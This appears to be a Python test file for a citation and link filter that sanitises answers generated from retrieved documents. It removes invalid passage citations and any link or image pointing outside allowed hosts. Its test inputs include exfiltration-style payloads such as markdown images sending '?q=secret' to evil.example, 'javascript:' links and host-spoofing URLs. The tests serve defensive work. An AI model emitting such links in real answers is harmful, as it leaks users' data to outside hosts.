"""What of an answer from documents is told: citations that point somewhere, and no address that leads outside."""

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from processors.retrieval.answer_links import LinkRules
from processors.retrieval.cite_sources import CitedText, Counts

KNOWN = "See https://known.example/a?b=1 and http://evil.example/x.png for more."
RULES = LinkRules(("docs.example",), KNOWN)


def checked(answer: str, *, passages: int = 3) -> tuple[str, Counts]:
    cited = CitedText(passages, RULES)
    return cited.told(answer) + cited.end(), cited.counts


@pytest.mark.parametrize(
    ("answer", "told", "valid", "removed"),
    [
        ("It is blue [1]. It is red [9].", "It is blue [1]. It is red.", 1, 1),
        ("Both [1, 9] and [9, 8].", "Both [1] and.", 1, 3),
        ("All [1][2][7].", "All [1][2].", 2, 1),
        ("All [1-3] and [2–5].", "All [1-3] and [2, 3].", 5, 2),
        ("Wide 【1】 and 【2†source】【8†source】.", "Wide [1] and [2].", 2, 1),
        ("As [source 2] says, and [Passage 12].", "As [2] says, and.", 1, 1),
        ("Так говорит [источник 1] и [фрагмент 7].", "Так говорит [1] и.", 1, 1),
        ("Foot [^1] and [^9].", "Foot [1] and.", 1, 1),
        ("The light[9] is out.", "The light is out.", 0, 1),
        ("**[1]** and *[4]*", "**[1]** and **", 1, 1),
        ("[1]", "[1]", 1, 0),
        ("[4]", "", 0, 1),
        ("[0] is none", "[0] is none", 0, 0),
        ("Wide [1-300] and [2-2] and [3-9].", "Wide [1, 2, 3] and [2-2] and [3].", 5, 303),
        ("Turned [9-2] and [8-7].", "Turned [2] and.", 1, 3),
        ("Many  [9]  spaces  [1].", "Many  spaces  [1].", 1, 1),
        ("An end.[9] Another. [9]", "An end. Another.", 0, 2),
        ("It costs $5 [9] and $6 [9].", "It costs $5 and $6.", 0, 2),
        ("A $ sign [9] $ apart.", "A $ sign $ apart.", 0, 1),
        ("A line $x [9]\nand y$ [9].", "A line $x\nand y$.", 0, 2),
        ("```\na [9]\n~~~\nb [9]\n```\nc [9]", "```\na [9]\n~~~\nb [9]\n```\nc", 0, 1),
        ("````\n[9]\n```\n[9]\n````\nc [9]", "````\n[9]\n```\n[9]\n````\nc", 0, 1),
        ("~~~\n[9]\n~~~~\nc [9]", "~~~\n[9]\n~~~~\nc", 0, 1),
        ("x\n   ```\n[9]\n```\nc [9]", "x\n   ```\n[9]\n```\nc", 0, 1),
        ("`[9]` and [9]", "`[9]` and", 0, 1),
        ("text ```[9]``` [9]", "text ```[9]```", 0, 1),
        ("values[9] x and other[9] x", "values[9] x and other x", 0, 1),
    ],
)
def test_a_citation_that_points_nowhere_is_taken_out_and_counted(
    answer: str, told: str, valid: int, removed: int
) -> None:
    assert checked(answer) == (told, Counts(valid, removed))


@pytest.mark.parametrize(
    "answer",
    [
        "`a[10]` and ``b[7] ` c[8]``",
        "```python\nrow = rows[10]\nprint([9])\n```",
        "~~~\nx[10]\n~~~",
        "a[10] = 3, foo_bar[7], f(x)[9], maxLen[5], argv[4], items[8]",
        "values[10] = 5",
        "in the range [10, 20], x ∈ [4, 5], the list [7, 8, 9]",
        "on the interval [0, 1]",
        "a year [2024]",
        "a shape [10, x]",
        "$x[9]$, $$y[7]$$, \\(z[8]\\) and \\[ w [6] \\]",
        "it costs $5 and that $6",
        "[not closed",
        "a [note] and [x][y]",
    ],
)
def test_brackets_of_code_and_maths_stay(answer: str) -> None:
    assert checked(answer) == (answer, Counts())


@pytest.mark.parametrize(
    ("answer", "told"),
    [
        ("![x](http://evil.example/?q=secret) Hi.", " Hi."),
        ("![x]( <http://evil.example/a b> 'title' ) Hi.", " Hi."),
        ("![x](//evil.example/a)", ""),
        ("![x](data:image/png;base64,AAAA)", ""),
        ("![x](http://docs.example@evil.example/a)", ""),
        ("![x](http://docs.example.evil.example/a)", ""),
        ("![x](http://evil.example\\@docs.example/a)", ""),
        ("![x](https://docs.example/a.png)", "![x](https://docs.example/a.png)"),
        ("![x](https://img.docs.example/a.png)", "![x](https://img.docs.example/a.png)"),
        ("[here](http://evil.example/a) it is", "here it is"),
        ("[here](\nhttp://evil.example/a\n) it is", "here it is"),
        ("[here](javascript:alert(1))", "here"),
        ("[![i](http://evil.example/a)](http://evil.example/b)", ""),
        ("[part](#part) and [docs](https://docs.example/)", "[part](#part) and [docs](https://docs.example/)"),
        ("![x][r]\n\n[r]: http://evil.example/a", "![x][r]\n\n"),
        ("> [r]:\n> http", "> [r]:\n> http"),
        ("<img src=http://evil.example/x>", " "),
        ("<IMG/SRC='http://evil.example/x'>", " "),
        ("<img src=http://other.example/x", "img src=(link removed)"),
        ("<http://other.example/>", " "),
        ("vector<int> and a < b > c", "vector<int> and a < b > c"),
        ("`![x](http://evil.example/a)`", "``"),
        ("See https://known.example/a?b=1.", "See https://known.example/a?b=1."),
        ("See https://known.example/a?b=secret.", "See (link removed)."),
        ("See https://evil.example/(a)?", "See (link removed)?"),
        ("www.evil.example", "(link removed)"),
    ],
)
def test_a_link_that_leads_outside_is_taken_out(answer: str, told: str) -> None:
    assert checked(answer)[0] == told


def test_each_link_that_is_taken_out_is_counted() -> None:
    outside = "(http://other.example/)"
    answer = (
        f"![a]{outside}[b]{outside}<img src=http://other.example> http://other.example\n[r]: http://other.example\n"
    )
    assert checked(answer) == ("b  (link removed)\n\n", Counts(links=5))


@pytest.mark.parametrize("answer", ["![a]", "![a] b", "![a][r]", "[r]: no address\n", "1. [r]\n", "wow! [a]"])
def test_what_only_looks_like_a_link_stays(answer: str) -> None:
    assert checked(answer) == (answer, Counts())


@pytest.mark.parametrize(
    ("first", "rest"),
    [
        ("[a](http://other.", "example) b"), ("![a](http://other.", "example) b"), ("[r]: http://other.", "example\n"),
        ("http://other.", "example b"), ("<img src='http://other.", "example'> b"), ("w", "ww.other.example b"),
    ],
)  # fmt: skip
def test_nothing_of_a_link_is_told_before_its_end_is_known(first: str, rest: str) -> None:
    cited = CitedText(3, RULES)
    assert cited.told(first) == ""
    assert "other" not in cited.told(rest) + cited.end()
    assert cited.counts.links == 1


@pytest.mark.parametrize(
    "answer",
    [
        "![a]【9】(http://evil.example/x.png)",
        "![a]<img src=q>(http://evil.example/x.png)",
        "![a][9](http://evil.example/x.png)",
        "![a]![b](http://e.example)(http://evil.example/x.png)",
        "[r]【9】: http://evil.example/x.png\n\n![a][r]",
        "[r][: http://evil.example/x.png](http://e.example)\n\n![a][r]",
        "![a][(http://evil.example/x.png)](http://e.example)",
        "![" + "a" * 700 + "](http://evil.example/x.png)",
        "![" + "a" * 599 + "](http://evil.example/x.png)",
    ],
)
def test_what_is_taken_out_makes_no_new_link(answer: str) -> None:
    told, _ = checked(answer)
    assert "](" not in told
    assert "\n[r]:" not in f"\n{told}"


PIECES = [
    "[1]", "[9]", "【2】", "![", "](", "http://", "evil.example", ")", "[", "]", " ", "`", "```", "\n", "\n\n", "$",
    "\\(", "\\)", "<", ">", "=", "a", "word", "1", ":", "www.", "h", "https://known.example/a?b=1", "(", "[r]: ", "«",
    "~~~", "~",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=25), st.lists(st.integers(1, 6), min_size=1, max_size=30))
@example(parts=["word", "[9]", "www.", "[1]"], steps=[1])
@example(parts=["`", "[1]", "```"], steps=[1])
@example(parts=["![", "\n\n", "](", ")"], steps=[3])
def test_piece_by_piece_it_is_what_its_whole_is(parts: list[str], steps: list[int]) -> None:
    answer = "".join(parts)
    cited, told, at = CitedText(3, RULES), "", 0
    for step in steps * (len(answer) // len(steps) + 1):
        told += cited.told(answer[at : at + step])
        at += step
    told += cited.told(answer[at:]) + cited.end()
    assert (told, cited.counts) == checked(answer)


@given(st.lists(st.sampled_from(PIECES), max_size=25))
def test_no_image_or_link_leads_outside_however_it_is_put_together(parts: list[str]) -> None:
    told, _ = checked("".join(parts))
    assert "](http" not in told.replace("](https://known", "")  # not even to what is known
    assert checked(told)[0].count("](") == told.count("](")


def test_what_is_held_back_is_bounded() -> None:
    cited = CitedText(3, RULES)
    told = sum(len(cited.told("[" + "a" * 40)) for _ in range(100))
    assert told > 100 * 41 - 2_000
    plain = CitedText(3, RULES)
    assert plain.told("Nothing is held of a plain text.") == "Nothing is held of a plain text."


def test_an_address_that_does_not_end_is_not_looked_for_to_the_end_of_the_answer() -> None:
    began = time.process_time()
    assert checked("[a](" + "\t" * 20_000 + "x")[0].startswith("[a] (")
    assert time.process_time() - began < 0.5  # it took 3 s
    far = "https://evil.example/" + "a" * 700
    assert "evil.example" not in checked(f"[a]({far})")[0]
    assert "evil.example" not in checked(f"![a]({far})")[0]
